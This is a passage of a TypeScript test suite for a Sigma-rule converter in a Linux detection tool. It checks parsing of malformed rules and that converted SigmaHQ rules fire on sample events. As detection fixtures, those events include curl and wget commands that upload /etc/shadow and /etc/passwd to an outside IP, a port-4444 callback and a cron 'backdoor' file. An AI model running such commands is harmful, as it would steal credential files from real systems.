    assert.deepEqual(codes(protocol), ['HADES_ERR_RULE_BAD_VALUE']);
  });
});

describe('sigma: malformed input', () => {
  const one = (text: string): SigmaReportEntry[] => convertSigma([{ path: 'bad.yml', text }]).report;

  it('reports what is not YAML or not a Sigma rule, per document, and never throws', () => {
    assert.deepEqual(one('title: [unclosed\n').map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_YAML']);
    assert.deepEqual(one('a: 1\na: 2\n').map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_YAML']);
    assert.deepEqual(one('title: t\ntags: &t [*t]\n').map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_YAML'], 'a value that contains itself');
    assert.deepEqual(one(`title: ${'['.repeat(20_000)}\n`).map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_YAML'], 'nested too deep to parse');
    assert.deepEqual(one('- a\n- b\n').map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_NOT_SIGMA']);
    assert.deepEqual(one('title: x\nfoo: bar\n').map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_NOT_SIGMA']);
    assert.deepEqual(one('detection:\n    condition: x\n').map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_INVALID']);
    assert.deepEqual(one(''), []);
    assert.deepEqual(one('---\n---\n'), []);
    const noCondition = one('title: x\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        Image: x\n');
    assert.deepEqual(noCondition.map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_INVALID']);
    const nested = one('title: x\nlogsource:\n    category: process_creation\ndetection:\n    selection:\n        Image:\n            a: b\n    condition: selection\n');
    assert.deepEqual(nested.map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_INVALID']);
    const deep = one(`title: x\nlogsource:\n    category: process_creation\ndetection:\n    s:\n        Image: x\n    condition: ${'('.repeat(500)}s${')'.repeat(500)}\n`);
    assert.deepEqual(deep.map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_INVALID']);
    const large = convertSigma([{ path: 'big.yml', text: `# ${'x'.repeat(9 * 1024 * 1024)}\n` }]).report;
    assert.deepEqual(large.map((e) => e.reasons[0]!.code), ['HADES_ERR_SIGMA_TOO_LARGE']);
  });

  it('takes names of Object.prototype as the plain names they are', () => {
    assert.deepEqual(codes(unsupported(rule("selection:\n    constructor: x\ncondition: selection"))), ['HADES_ERR_SIGMA_FIELD']);
    assert.deepEqual(codes(unsupported(rule("selection:\n    __proto__: x\ncondition: selection"))), ['HADES_ERR_SIGMA_FIELD']);
    assert.deepEqual(codes(unsupported(rule("selection:\n    Image|toString: x\ncondition: selection"))), ['HADES_ERR_SIGMA_MODIFIER']);
    assert.deepEqual(codes(unsupported(rule("selection:\n    Initiated: constructor\ncondition: selection", { category: 'network_connection' }))), ['HADES_ERR_SIGMA_VALUE']);
    assert.deepEqual(codes(unsupported(rule("selection:\n    Image: x\ncondition: selection", { category: 'hasOwnProperty' }))), ['HADES_ERR_SIGMA_LOGSOURCE']);
    const level = convert(rule("selection:\n    Image: x\ncondition: selection").replace('level: high', 'level: constructor'));
    assert.equal(level.ruleSet.rules[0]!.severity, 'medium');
  });

  it('survives any cut or corruption of real rules (a small fuzz)', () => {
    const texts = sigmaFiles().slice(0, 40).map((f) => f.text);
    let seed = 7;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (let i = 0; i < 300; i++) {
      const t = texts[i % texts.length]!;
      const cut = Math.floor(random() * t.length);
      const mutated = random() < 0.5 ? t.slice(0, cut) : `${t.slice(0, cut)}${String.fromCharCode(Math.floor(random() * 128))}${t.slice(cut + 1)}`;
      const result = convertSigma([{ path: 'f.yml', text: mutated }]);
      const { problems } = loadRules(result.files);
      assert.deepEqual(problems.filter((p) => p.severity === 'error').map(formatProblem), []);
      for (const e of result.report) assert.ok(e.status === 'loaded' || e.reasons.length > 0);
    }
  });
});

// ----- SigmaHQ's Linux rules, from third_party/sigma -----

describe('sigma: SigmaHQ Linux rules (third_party/sigma)', () => {
  const result = convertSigma(sigmaFiles());
  const { ruleSet, problems } = loadRules(result.files);
  const fires = (id: string, e: Record<string, unknown>) => ruleSet.match(e).some((m) => m.rule.id === id);

  it('converts at least 90% of the process_creation, network_connection and file_event rules, and they load clean', () => {
    assert.ok(result.report.length >= 240, `${result.report.length} rules read`);
    const ratio = loadRatio(result.report, ['process_creation', 'network_connection', 'file_event']);
    assert.ok(ratio >= 0.9, `load ratio ${ratio}`);
    assert.deepEqual(problems.filter((p) => p.severity === 'error').map(formatProblem), []);
    assert.equal(ruleSet.rules.length, result.summary.loaded);
    for (const e of result.report) assert.ok(e.status === 'loaded' ? e.reasons.length === 0 : e.reasons.length > 0, e.file);
  });

  it('docs/sigma.md gives the load figures measured here', () => {
    const doc = readFileSync(path.join(projectRoot, 'docs/sigma.md'), 'utf8');
    for (const [category, n] of Object.entries(result.summary.categories)) {
      const total = n.loaded + n.unsupported;
      assert.ok(doc.includes(`| ${category} | ${total} | ${n.loaded} |`), `docs/sigma.md lacks '| ${category} | ${total} | ${n.loaded} |'`);
    }
    for (const [reason, n] of Object.entries(result.summary.reasons)) assert.ok(doc.includes(`| ${reason} | ${n} |`), `docs/sigma.md lacks '| ${reason} | ${n} |'`);
  });

  it('curl file upload: fires on an upload, not on a download or an upload to localhost', () => {
    const id = '00b90cc1-17ec-402c-96ad-3a8117d7a582';
    assert.ok(fires(id, exec('/usr/bin/curl -F file=@/etc/shadow https://203.0.113.7/u')));
    assert.ok(fires(id, exec('/usr/bin/curl --data-binary @/etc/passwd https://203.0.113.7/u')));
    assert.ok(!fires(id, exec('/usr/bin/curl -s https://203.0.113.7/x.sh')));
    assert.ok(!fires(id, exec('/usr/bin/curl -F file=@x http://localhost:8080/u')));
    assert.ok(!fires(id, exec('/usr/bin/wget --post-file /etc/passwd https://203.0.113.7/u')));
  });

  it('malware callback ports: a connect to a public address on 4444, not a private one, not an accept', () => {
    const id = 'dbfc7c98-04ab-4ab7-aa94-c74d22aa7376';
    assert.ok(fires(id, event('connect', { 'destination.ip': '203.0.113.7', 'destination.port': 4444 })));
    assert.ok(!fires(id, event('connect', { 'destination.ip': '10.1.2.3', 'destination.port': 4444 })));
    assert.ok(!fires(id, event('connect', { 'destination.ip': '203.0.113.7', 'destination.port': 443 })));
    assert.ok(!fires(id, event('accept', { 'destination.ip': '203.0.113.7', 'destination.port': 4444 })));
  });

  it('cron file created: a new file in /etc/cron.d, not the package\'s own, not elsewhere', () => {
    const id = '6c4e2f43-d94d-4ead-b64d-97e53fa2bd05';
    const file = (p: string) => event('file_create', { 'file.path': p, 'file.name': path.basename(p), 'file.directory': path.dirname(p) });
    assert.ok(fires(id, file('/etc/cron.d/backdoor')));
    assert.ok(fires(id, event('file_rename', { 'file.path': '/var/spool/cron/crontabs/root', 'hades.file.old_path': '/tmp/x' })));
    assert.ok(!fires(id, file('/etc/cron.daily/dpkg')));
    assert.ok(!fires(id, file('/etc/nginx/nginx.conf')));
  });

  it('ngrok tunnel: the DNS question for a tunnel host', () => {
    const id = '19bf6fdb-7721-4f3d-867f-53467f6a5db6';
    assert.ok(fires(id, event('dns_query', { 'dns.question': { name: 'tunnel.us.ngrok.com', type: 'A', class: 'IN' } })));
    assert.ok(!fires(id, event('dns_query', { 'dns.question': { name: 'ngrok.com', type: 'A', class: 'IN' } })));
  });

  it('network sniffing (auditd EXECVE): tcpdump capturing a count of packets on an interface', () => {
    const id = 'f4d3748a-65d1-4806-bd23-e25728081d01';
    assert.ok(fires(id, exec('tcpdump -c 100 -i eth0')));
    assert.ok(!fires(id, exec('tcpdump -i eth0')));
    assert.ok(!fires(id, exec('tcpdump --version')));
  });

  it('interactive bash children: a child of `bash -i` running whoami', () => {
    const id = 'ea3ecad2-db86-4a89-ad0b-132a10d2db55';
    assert.ok(fires(id, exec('/usr/bin/whoami', { 'process.parent.args': ['bash', '-i'], 'process.parent.command_line': 'bash -i', 'process.parent.executable': '/usr/bin/bash' })));
    assert.ok(!fires(id, exec('/usr/bin/whoami', { 'process.parent.args': ['bash', '-l'], 'process.parent.command_line': 'bash -l', 'process.parent.executable': '/usr/bin/bash' })));
  });
});

describe('the server\'s Sigma folders (sigmaRules)', () => {
  it('reports a Sigma file its reader could not take as a warning of that file, and converts the others', () => {
    const good = { name: 'sigma/good.yml', text: 'title: Whoami\nid: 6f1e6c1c-1111-4111-8111-111111111111\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel: {Image|endswith: /whoami}\n  condition: sel\nlevel: low\n' };
    const latin1 = { name: 'sigma/latin1.yml', text: '', unreadable: { code: 'HADES_ERR_RULE_YAML' as const, message: 'byte 0xE9 is not UTF-8 text: save the file as UTF-8', line: 3, column: 6 } };
    const large = { name: 'sigma/big.yml', text: '', unreadable: { code: 'HADES_ERR_RULE_TOO_LARGE' as const, message: 'the file is 9000000 bytes; a rule file may be 8388608' } };
    const { files, problems } = sigmaRules([good, latin1, large]);
    assert.deepEqual(
      problems.map((p) => [p.file, p.code, p.severity, p.line]),
      [
        ['sigma/latin1.yml', 'HADES_ERR_SIGMA_READ', 'warning', 3],
        ['sigma/big.yml', 'HADES_ERR_SIGMA_TOO_LARGE', 'warning', undefined],
      ],
    );
    assert.equal(files.length, 1, 'the good file converted');
  });
});
